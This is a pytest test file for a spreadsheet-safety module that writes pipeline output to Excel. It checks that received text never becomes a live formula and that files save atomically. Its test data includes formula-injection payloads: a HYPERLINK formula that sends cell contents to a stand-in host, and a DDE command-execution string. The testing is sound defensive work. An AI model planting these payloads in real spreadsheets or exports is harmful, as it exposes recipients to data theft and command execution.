"""Cells written by the pipeline: received text is never a formula, files land atomically."""

from __future__ import annotations

import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import numpy as np
import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook
from python_calamine import CalamineWorkbook

from ase_impact.publish.excel_safety import (
    MAX_CELL_TEXT,
    fit_column_widths,
    is_formula_like,
    safe_cell_value,
    save_atomically,
    write_cell,
    write_large_table,
    write_row,
    write_table,
)

DANGEROUS = [
    '=HYPERLINK("http://exemple.invalid/?d="&A1,"Cliquez ici")',
    "=1+2",
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(A1:A2)",
    "   =CMD|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+2", True),
        ("+1", True),
        ("-1", True),
        ("@A1", True),
        ("  =1", True),
        ("\t1", True),
        ("\rA", True),
        (" \n=1", True),
        ("Foyer Horizon", False),
        ("a=b", False),
        ("", False),
        ("#N/A", False),
    ],
)
def test_formula_like_text_is_recognised(text, expected):
    assert is_formula_like(text) is expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, None),
        (float("nan"), None),
        (pd.NA, None),
        (pd.NaT, None),
        (np.float64("nan"), None),
        (np.int64(7), 7),
        (np.float64(2.5), 2.5),
        (Decimal("1.25"), 1.25),
        (np.bool_(True), True),
        (False, False),
        (pd.Timestamp("2026-10-09"), datetime(2026, 10, 9)),
        (datetime(2026, 10, 9, 8, 0, tzinfo=UTC), datetime(2026, 10, 9, 8, 0)),
        (date(2026, 10, 9), date(2026, 10, 9)),
        ("ligne\x01 avec\x0b contrôle", "ligne avec contrôle"),
        (("B", 1), "('B', 1)"),
    ],
)
def test_values_become_what_a_cell_can_hold(value, expected):
    safe = safe_cell_value(value)
    assert safe == expected and type(safe) is type(expected)


def test_text_is_cut_at_excels_limit():
    assert len(safe_cell_value("x" * (MAX_CELL_TEXT + 10))) == MAX_CELL_TEXT


def test_dangerous_text_reads_back_as_the_same_text(tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.title = "Retours"
    for row, text in enumerate(DANGEROUS, 1):
        write_row(sheet, row, [text, "Texte ordinaire", 12])
    path = save_atomically(book, tmp_path / "retours.xlsx")

    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml
    read_back = load_workbook(path)["Retours"]
    # XML turns a carriage return into a line feed when read: same text, same line break.
    expected = [text.replace("\r", "\n") for text in DANGEROUS]
    for row, text in enumerate(expected, 1):
        dangerous, plain, number = read_back[f"A{row}"], read_back[f"B{row}"], read_back[f"C{row}"]
        assert (dangerous.value, dangerous.data_type) == (text, "s")
        assert dangerous.quotePrefix is is_formula_like(DANGEROUS[row - 1])
        assert (plain.value, plain.quotePrefix) == ("Texte ordinaire", False)
        assert (number.value, number.data_type) == (12, "n")
    calamine = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("Retours").to_python()
    assert [row[0] for row in calamine] == expected


def test_a_plain_assignment_would_have_made_a_formula(tmp_path):
    # Why write_cell exists: openpyxl alone turns the received text into a live formula.
    book = Workbook()
    book.active["A1"] = "=1+2"
    write_cell(book.active, 2, 1, "=1+2")
    book.save(tmp_path / "naif.xlsx")
    with zipfile.ZipFile(tmp_path / "naif.xlsx") as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert '<c r="A1"><f>1+2</f>' in xml
    assert "<f>" not in xml.split('r="A2"', 1)[1]


def test_numbers_and_dates_keep_their_format(tmp_path):
    book = Workbook()
    write_cell(book.active, 1, 1, date(2026, 10, 9), "DD/MM/YYYY")
    write_cell(book.active, 1, 2, 33.333, "0.0")
    write_cell(book.active, 1, 3, None, "0.0")
    path = save_atomically(book, tmp_path / "formats.xlsx")
    sheet = load_workbook(path).active
    day, rate, empty = sheet["A1"], sheet["B1"], sheet["C1"]
    assert (day.value, day.number_format) == (datetime(2026, 10, 9), "DD/MM/YYYY")
    assert (rate.value, rate.number_format) == (33.333, "0.0")
    assert (empty.value, empty.number_format) == (None, "General")


def test_a_filterable_table_freezes_its_header_and_filters_its_rows():
    book = Workbook()
    last = write_table(
        book.active, 3, ["Onglet", "Ligne"], [["Données", 4], ["Activités", 2]], filterable=True
    )
    assert last == 5
    assert book.active.freeze_panes == "A4" and book.active.auto_filter.ref == "A3:B5"
    assert book.active["A3"].font.bold


def test_saving_replaces_the_file_whole_or_not_at_all(tmp_path):
    target = tmp_path / "sortie.xlsx"
    first = Workbook()
    write_cell(first.active, 1, 1, "version 1")
    save_atomically(first, target)
    second = Workbook()
    write_cell(second.active, 1, 1, "version 2")
    save_atomically(second, target)
    assert load_workbook(target).active["A1"].value == "version 2"

    def crash(path):
        (tmp_path / path.name).write_bytes(b"PK partial")
        raise OSError("disque plein")

    broken = Workbook()
    broken.save = crash
    with pytest.raises(OSError, match="disque plein"):
        save_atomically(broken, target)
    assert load_workbook(target).active["A1"].value == "version 2"
    assert [path.name for path in tmp_path.iterdir()] == ["sortie.xlsx"]


# A large table's rows are written into the sheet's XML, not through openpyxl's cells.
LARGE_HEADERS = ["Identifiant binôme", "Commentaire", "Séances", "Date de fin", "Signalé"]
LARGE_FORMATS = [None, None, "0", "DD/MM/YYYY", None]
LARGE_ROWS = [
    (text, f"ligne {index} <&> « texte »", index, pd.Timestamp(2026, 10, 1 + index), index % 2 == 0)
    for index, text in enumerate(DANGEROUS)
] + [
    ("B-100", "  espaces autour  ", pd.NA, pd.NaT, None),
    ("B-101", "x" * 80, np.int64(3), date(2026, 10, 9), False),
    ("B-102", float("nan"), 2.5, datetime(2026, 10, 9, 8, 30), True),
]


def _cells(path, sheet_name):
    sheet = load_workbook(path)[sheet_name]
    return sheet, [
        [
            (
                cell.value,
                cell.data_type,
                cell.number_format,
                cell.quotePrefix,
                cell.alignment.wrap_text,
            )
            for cell in row
        ]
        for row in sheet.iter_rows()
    ]


def test_a_large_table_writes_the_same_cells_as_a_table_of_openpyxl_cells(tmp_path):
    by_cell, streamed = Workbook(), Workbook()
    write_table(by_cell.active, 1, LARGE_HEADERS, LARGE_ROWS, LARGE_FORMATS, filterable=True)
    fit_column_widths(by_cell.active)
    last = write_large_table(streamed.active, LARGE_HEADERS, LARGE_ROWS, LARGE_FORMATS)
    assert last == len(LARGE_ROWS) + 1
    expected_sheet, expected = _cells(save_atomically(by_cell, tmp_path / "a.xlsx"), "Sheet")
    sheet, cells = _cells(save_atomically(streamed, tmp_path / "b.xlsx"), "Sheet")
    assert cells == expected
    assert len(cells) == len(LARGE_ROWS) + 1
    assert sheet.dimensions == expected_sheet.dimensions == f"A1:E{last}"
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", f"A1:E{last}")
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDE"}
    assert widths == {key: expected_sheet.column_dimensions[key].width for key in "ABCDE"}
    assert widths["B"] == 60  # the 80 characters wrap in the widest column allowed
    long_text_row = len(DANGEROUS) + 3
    assert sheet.cell(row=long_text_row, column=2).alignment.wrap_text
    assert not sheet.cell(row=long_text_row - 1, column=2).alignment.wrap_text


def test_dangerous_text_in_a_large_table_stays_text(tmp_path):
    book = Workbook()
    book.active.title = "Données"
    write_large_table(book.active, LARGE_HEADERS, LARGE_ROWS, LARGE_FORMATS)
    path = save_atomically(book, tmp_path / "grand.xlsx")

    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
        assert archive.testzip() is None
    assert b"<f>" not in xml and b"<f " not in xml and b't="e"' not in xml
    sheet = load_workbook(path)["Données"]
    expected = [text.replace("\r", "\n") for text in DANGEROUS]
    for row, text in enumerate(expected, 2):
        cell = sheet.cell(row=row, column=1)
        assert (cell.value, cell.data_type) == (text, "s")
        assert cell.quotePrefix is is_formula_like(DANGEROUS[row - 2])
    assert sheet["B2"].value == "ligne 0 <&> « texte »"
    assert sheet.cell(row=len(DANGEROUS) + 2, column=2).value == "  espaces autour  "
    empty_row = [cell.value for cell in sheet[len(DANGEROUS) + 2]]
    assert empty_row[2:] == [None, None, None]
    day = sheet["D2"]
    assert (day.value, day.number_format) == (datetime(2026, 10, 1), "DD/MM/YYYY")
    assert (sheet["E2"].value, sheet["E2"].data_type) == (True, "b")
    assert sheet.cell(row=len(LARGE_ROWS) + 1, column=2).value is None  # NaN: no cell
    calamine = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("Données").to_python()
    assert [row[0] for row in calamine[1 : len(DANGEROUS) + 1]] == expected


def test_a_large_table_with_no_rows_keeps_its_header(tmp_path):
    book = Workbook()
    assert write_large_table(book.active, LARGE_HEADERS, [], LARGE_FORMATS) == 1
    sheet = load_workbook(save_atomically(book, tmp_path / "vide.xlsx")).active
    assert [cell.value for cell in sheet[1]] == LARGE_HEADERS
    assert sheet.max_row == 1


def test_nothing_may_be_written_below_a_large_table(tmp_path):
    book = Workbook()
    write_large_table(book.active, LARGE_HEADERS, LARGE_ROWS, LARGE_FORMATS)
    write_cell(book.active, 3, 1, "écrasé")
    with pytest.raises(ValueError, match="below a large table"):
        save_atomically(book, tmp_path / "refus.xlsx")
    assert list(tmp_path.iterdir()) == []
